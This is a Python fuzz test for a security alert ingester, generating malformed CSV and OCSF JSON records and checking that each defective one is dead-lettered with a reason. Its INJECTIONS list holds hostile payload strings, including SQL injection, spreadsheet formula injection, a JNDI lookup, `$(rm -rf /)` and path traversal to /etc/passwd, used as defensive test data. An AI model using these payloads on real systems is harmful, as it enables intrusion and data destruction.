"""Hostile and malformed alerts through the ingest paths (GUIDE CSV rows, OCSF JSON lines).

Hypothesis generates batches of records, each with one known defect (wrong types, missing keys,
huge fields, bad unicode, injection strings, broken JSON, deep nesting...) or hostile-but-valid
content. Every defective record must land in the dead-letter file with a specific reason, every
valid one must be accepted, the ingester must not crash, and accepted + rejected == records.

CI runs ~1,500 records per format; `make test-large` (-m slow) runs 10,000 per format.
"""

from __future__ import annotations

import csv
import io
import json
import string
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from temporalio.testing import WorkflowEnvironment

from signoff.ingest import DeadLetter, group_guide, group_ocsf, ingest_path
from signoff.sources.guide import GUIDE_COLUMNS

INJECTIONS = (
    "'; DROP TABLE alerts; --", "\" OR 1=1 --", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>", "${jndi:ldap://198.51.100.7/a}", "{{7*7}}", "$(rm -rf /)", "`id`",
    "../../../../etc/passwd", "\x1b[31mred\x1b[0m", "line\nbreak", "tab\tinside", "\u202egnp.exe",
    "zero\u200bwidth", "null\x00byte", "𝕳𝖔𝖘𝖙 🦠", "ＣＭＤ", "\ufeffbom", "%s%s%n", "' || pg_sleep(10) --",
)
hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(st.characters(blacklist_categories=["Cs"]), max_size=60),  # any unicode but lone surrogates
)
# Text that can never be a bare ASCII integer id.
not_an_id = st.one_of(
    st.sampled_from(["", " ", "-1", "1.5", "0x1F", "1e3", "²", "٣", "１２", "12 34", "NaN", "None", "null"]),
    st.builds(lambda a, b: a + b, st.text(string.ascii_letters + string.punctuation, min_size=1, max_size=5),
              hostile_text),
)


def _base_row(n: int) -> dict[str, str]:
    """A valid GUIDE evidence row; `n` makes its ids (and so its incident) unique."""
    row = dict.fromkeys(GUIDE_COLUMNS, "")
    row.update(Id=str(10_000_000 + n), OrgId=str(900 + n % 7), IncidentId=str(5_000_000 + n), AlertId=str(7_000_000 + n),
               Timestamp="2024-06-08T09:33:37.000Z", DetectorId="5", AlertTitle="39", Category="InitialAccess",
               IncidentGrade="TruePositive", EntityType="User", EvidenceRole="Impacted", AccountName="12")
    return row


@dataclass(frozen=True)
class Case:
    """One generated record: `reason` is a fragment the rejection must contain (None: must be accepted)."""

    fields: list[str] | None  # CSV fields (None: an empty row)
    reason: str | None
    kind: str


def guide_record(draw: Any, n: int) -> Case:
    row = _base_row(n)
    kind = draw(st.sampled_from([
        "valid-hostile", "missing-id", "bad-id", "missing-detector", "missing-entity", "missing-time",
        "bad-time", "naive-time", "bad-grade", "bad-role", "short-row", "long-row", "empty-row", "huge-field",
    ]))
    if kind == "valid-hostile":
        row["AlertTitle"] = draw(hostile_text)
        row[draw(st.sampled_from(["Category", "ThreatFamily", "FileName", "Url", "City"]))] = draw(hostile_text)
        return Case(list(row.values()), None, kind)
    if kind == "missing-id":
        col = draw(st.sampled_from(["OrgId", "IncidentId", "AlertId"]))
        row[col] = draw(st.sampled_from(["", "  "]))
        return Case(list(row.values()), f"missing {col}", kind)
    if kind == "bad-id":
        col = draw(st.sampled_from(["OrgId", "IncidentId", "AlertId"]))
        value = draw(not_an_id)
        row[col] = value
        reason = f"missing {col}" if not value.strip() else "is not a non-negative integer id"
        return Case(list(row.values()), reason, kind)
    if kind in ("missing-detector", "missing-entity"):
        col = "DetectorId" if kind == "missing-detector" else "EntityType"
        row[col] = ""
        return Case(list(row.values()), f"missing {col}", kind)
    if kind == "missing-time":
        row["Timestamp"] = ""
        return Case(list(row.values()), "missing Timestamp", kind)
    if kind in ("bad-time", "naive-time"):
        row["Timestamp"] = (draw(st.sampled_from(["2024-06-08T09:33:37", "2024-06-08 09:33"])) if kind == "naive-time"
                            else draw(st.builds(lambda a, b: a + b, st.sampled_from(["x", "2024-13-01T00:00:00Z", "yesterday", "1717839217"]), hostile_text)))
        return Case(list(row.values()), "bad Timestamp", kind)
    if kind == "bad-grade":
        row["IncidentGrade"] = draw(st.builds(lambda a, b: a + b, st.sampled_from(["Maybe", "truepositive", "TP", "1"]), hostile_text))
        return Case(list(row.values()), "unknown IncidentGrade", kind)
    if kind == "bad-role":
        row["EvidenceRole"] = draw(st.builds(lambda a, b: a + b, st.sampled_from(["Victim", "Attacker", "0"]), hostile_text))
        return Case(list(row.values()), "unknown EvidenceRole", kind)
    if kind == "short-row":
        keep = draw(st.integers(1, len(GUIDE_COLUMNS) - 1))
        return Case(list(row.values())[:keep], "wrong column count", kind)
    if kind == "long-row":
        return Case(list(row.values()) + draw(st.lists(hostile_text, min_size=1, max_size=4)), "wrong column count", kind)
    if kind == "empty-row":
        return Case(None, "empty row", kind)
    # huge-field: bigger than the parser accepts (a payload dump, not an alert)
    col = draw(st.sampled_from(["AlertTitle", "Url", "FolderPath", "RegistryValueData"]))
    row[col] = draw(st.sampled_from(["A", "é", "🦠", "'; --"])) * draw(st.integers(9_000, 200_000))
    return Case(list(row.values()), "over the 8192 limit", kind)


@st.composite
def guide_batches(draw: Any, size: int) -> list[Case]:
    start = draw(st.integers(0, 10**9))
    return [guide_record(draw, start + i) for i in range(size)]


def _write_guide(path: Path, cases: list[Case]) -> None:
    buf = io.StringIO()
    writer = csv.writer(buf)  # "\r\n" terminator: fields holding a bare "\r" get quoted too
    writer.writerow(GUIDE_COLUMNS)
    for case in cases:
        if case.fields is None:
            buf.write("\r\n")
        else:
            writer.writerow(case.fields)
    path.write_bytes(buf.getvalue().encode("utf-8"))


def _dead(path: str) -> list[dict[str, Any]]:
    # The file is created with the first rejected record: none means nothing was rejected (the callers
    # compare with the counts, so a missing file where records were rejected still fails).
    if not Path(path).exists():
        return []
    # JSON Lines split on "\n" only: str.splitlines() would also split inside U+2028, \x1c, \x85...
    return [json.loads(line) for line in Path(path).read_text(encoding="utf-8").split("\n") if line]


def _check(cases: list[Case], accepted: int, dead: DeadLetter) -> None:
    rejected = _dead(str(dead.path))
    expected_rejections = [c for c in cases if c.reason is not None]
    assert dead.count == len(rejected)
    assert accepted + len(rejected) == len(cases), "accepted + rejected must equal the records read"
    assert len(rejected) == len(expected_rejections), (
        [c.kind for c in expected_rejections], [r["reason"] for r in rejected])
    lines = [r["line"] for r in rejected]
    assert lines == sorted(lines) and len(set(lines)) == len(lines)
    for case, record in zip(expected_rejections, rejected, strict=True):
        assert record["reason"], case.kind
        assert case.reason is not None and case.reason in record["reason"], (case.kind, record["reason"])


def _run_guide(cases: list[Case]) -> tuple[int, DeadLetter]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        _write_guide(path, cases)
        dead = DeadLetter(str(path))
        try:
            _, accepted = group_guide(path, dead)
        finally:
            dead.close()
    return accepted, dead


FUZZ = settings(deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None,
                phases=[Phase.explicit, Phase.generate])  # no shrinking: the failing record is printed


@settings(FUZZ, max_examples=30)
@given(guide_batches(50))
def test_guide_rows_rejected_with_reasons(cases: list[Case]) -> None:
    accepted, dead = _run_guide(cases)
    _check(cases, accepted, dead)


@pytest.mark.slow
@settings(FUZZ, max_examples=100)
@given(guide_batches(100))
def test_guide_rows_rejected_with_reasons_10k(cases: list[Case]) -> None:
    accepted, dead = _run_guide(cases)
    _check(cases, accepted, dead)


# ---------------------------------------------------------------- OCSF


def _finding(n: int) -> dict[str, Any]:
    return {
        "class_uid": 2004, "category_uid": 2, "type_uid": 200401, "activity_id": 1, "severity_id": 3,
        "time": 1_700_000_000_000 + n, "metadata": {"version": "1.1.0", "product": {"name": "Wazuh", "vendor_name": "Wazuh"}},
        "finding_info": {"uid": f"fuzz-{n}", "title": "Suspicious login",
                         "analytic": {"uid": "5710", "name": "sshd", "type_id": 1}},
        "device": {"hostname": "web-01", "ip": "10.0.0.5"},
        "status_id": 1,
    }


JSON_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), hostile_text)


def ocsf_record(draw: Any, n: int) -> tuple[str, str | None, str]:
    """(line, reason fragment or None for accepted, kind)."""
    f = _finding(n)
    kind = draw(st.sampled_from([
        "valid-hostile", "not-json", "not-object", "wrong-class", "missing-uid", "uid-wrong-type", "time-string",
        "time-seconds", "missing-time", "title-wrong-type", "huge-title", "huge-line", "deep-nesting", "blank",
        "lone-surrogate", "missing-finding-info", "observables-not-list", "severity-string", "bad-utf8ish",
    ]))
    if kind == "valid-hostile":
        f["finding_info"]["title"] = draw(hostile_text)
        f["device"]["hostname"] = draw(hostile_text)[:100]
        f["message"] = draw(hostile_text)
        return json.dumps(f, ensure_ascii=draw(st.booleans())), None, kind
    if kind == "not-json":
        text = draw(st.sampled_from(["{", "{'a': 1}", "{\"class_uid\": 2004,}", "NaN]", "<xml/>"])) + draw(hostile_text).replace("\n", " ")
        if text.strip() in ("", "NaN]"):
            text = "{" + text
        return text, "not JSON", kind
    if kind == "not-object":
        value = draw(st.one_of(JSON_SCALARS, st.lists(JSON_SCALARS, max_size=3)))
        text = json.dumps(value)
        return text, "not a JSON object", kind
    if kind == "wrong-class":
        f["class_uid"] = draw(st.one_of(st.integers().filter(lambda v: v != 2004), st.just("2004"), st.none(), hostile_text))
        return json.dumps(f), "class_uid is", kind
    if kind == "missing-uid":
        del f["finding_info"]["uid"]
        return json.dumps(f), "finding_info.uid", kind
    if kind == "uid-wrong-type":
        f["finding_info"]["uid"] = draw(st.one_of(st.integers(), st.lists(st.integers(), max_size=2), st.none(), st.booleans()))
        return json.dumps(f), "finding_info.uid", kind
    if kind == "time-string":
        f["time"] = str(f["time"])
        return json.dumps(f), "time", kind
    if kind == "time-seconds":
        f["time"] = f["time"] // 1000
        return json.dumps(f), "time", kind
    if kind == "missing-time":
        del f["time"]
        return json.dumps(f), "time", kind
    if kind == "title-wrong-type":
        f["finding_info"]["title"] = draw(st.one_of(st.integers(), st.none(), st.dictionaries(hostile_text, st.integers(), max_size=2)))
        return json.dumps(f), "finding_info.title", kind
    if kind == "huge-title":
        f["finding_info"]["title"] = "T" * draw(st.integers(8_193, 60_000))
        return json.dumps(f), "finding_info.title", kind
    if kind == "huge-line":
        f["message"] = "x" * (1 << 20)
        return json.dumps(f), "over the", kind
    if kind == "deep-nesting":
        depth = draw(st.integers(2_000, 60_000))
        return '{"class_uid": 2004, "x": ' + "[" * depth + "]" * depth + "}", "nest", kind
    if kind == "blank":
        return draw(st.sampled_from(["", "   ", "\t"])), "blank line", kind
    if kind == "lone-surrogate":
        return json.dumps(f).replace("Suspicious login", "bad \\ud800 title"), "finding_info.title", kind
    if kind == "missing-finding-info":
        del f["finding_info"]
        return json.dumps(f), "finding_info", kind
    if kind == "observables-not-list":
        f["observables"] = draw(st.one_of(hostile_text, st.integers(), st.dictionaries(hostile_text, st.integers(), max_size=2)))
        return json.dumps(f), "observables", kind
    if kind == "severity-string":
        f["severity_id"] = draw(st.sampled_from(["3", "high", "3.0"]))
        return json.dumps(f), "severity_id", kind
    # bad-utf8ish: a JSON line with a control character inside a string (not valid JSON)
    return json.dumps(f).replace("Suspicious login", "bad\x01title"), "not JSON", kind


@st.composite
def ocsf_batches(draw: Any, size: int) -> list[tuple[str, str | None, str]]:
    start = draw(st.integers(0, 10**9))
    return [ocsf_record(draw, start + i) for i in range(size)]


def _run_ocsf(records: list[tuple[str, str | None, str]]) -> tuple[int, DeadLetter]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.jsonl"
        path.write_bytes(("\n".join(r[0] for r in records) + "\n").encode("utf-8"))
        dead = DeadLetter(str(path))
        try:
            _, accepted = group_ocsf(path, dead)
        finally:
            dead.close()
    return accepted, dead


def _check_ocsf(records: list[tuple[str, str | None, str]], accepted: int, dead: DeadLetter) -> None:
    _check([Case(None, reason, kind) for _, reason, kind in records], accepted, dead)
    rejected = _dead(str(dead.path))
    wanted = [i + 1 for i, r in enumerate(records) if r[1] is not None]
    assert [r["line"] for r in rejected] == wanted  # one physical line per record in JSON Lines


@settings(FUZZ, max_examples=30)
@given(ocsf_batches(50))
def test_ocsf_lines_rejected_with_reasons(records: list[tuple[str, str | None, str]]) -> None:
    accepted, dead = _run_ocsf(records)
    _check_ocsf(records, accepted, dead)


@pytest.mark.slow
@settings(FUZZ, max_examples=100)
@given(ocsf_batches(100))
def test_ocsf_lines_rejected_with_reasons_10k(records: list[tuple[str, str | None, str]]) -> None:
    accepted, dead = _run_ocsf(records)
    _check_ocsf(records, accepted, dead)


# ---------------------------------------------------------------- through ingest_path, on the real server


async def test_ingest_path_survives_hostile_batches(dev_env: WorkflowEnvironment, task_queue: str, tmp_path: Path) -> None:
    """The whole ingest (parse, dead letter, group, signal-with-start) on hostile files: nothing is
    lost, the ingester stays up, re-ingesting opens nothing twice."""
    from signoff.alertstore import AlertStore

    store = AlertStore(tmp_path / "alerts.db")
    cases: list[Case] = _sample(guide_batches(300), seed=20261128)
    path = tmp_path / "hostile.csv"
    _write_guide(path, cases)
    summary = await ingest_path(dev_env.client, path, "guide", store=store, task_queue=task_queue)
    want_accepted = sum(1 for c in cases if c.reason is None)
    assert want_accepted > 0 and want_accepted < len(cases)
    assert summary.records == len(cases)
    assert summary.accepted == want_accepted
    assert summary.rejected == len(cases) - want_accepted == len(_dead(summary.dead_letter))
    assert summary.cases_opened == want_accepted  # one incident per valid row
    again = await ingest_path(dev_env.client, path, "guide", store=store, task_queue=task_queue)
    assert again.cases_opened == 0 and again.duplicates == want_accepted
    opened = list(summary.case_ids)

    records: list[tuple[str, str | None, str]] = _sample(ocsf_batches(300), seed=20261129)
    jpath = tmp_path / "hostile.jsonl"
    jpath.write_bytes(("\n".join(r[0] for r in records) + "\n").encode("utf-8"))
    summary = await ingest_path(dev_env.client, jpath, "ocsf", store=store, task_queue=task_queue)
    want_accepted = sum(1 for r in records if r[1] is None)
    assert summary.records == len(records) and summary.accepted == want_accepted
    assert summary.rejected == len(records) - want_accepted == len(_dead(summary.dead_letter))
    assert summary.cases_opened + summary.cases_updated >= 1
    for case_id in opened + summary.case_ids:  # no worker polls this queue: stop the cases
        await dev_env.client.get_workflow_handle(case_id).terminate("fuzz test done")


def _sample(strategy: Any, seed: int) -> Any:
    """One reproducible value of a strategy (for code that cannot run under @given, like async tests)."""
    import hypothesis

    chosen: list[Any] = []

    @settings(FUZZ, max_examples=8, phases=[hypothesis.Phase.generate])  # the first ones are the simplest
    @given(strategy)
    def grab(value: Any) -> None:
        chosen.append(value)

    hypothesis.seed(seed)(grab)()
    return chosen[-1]
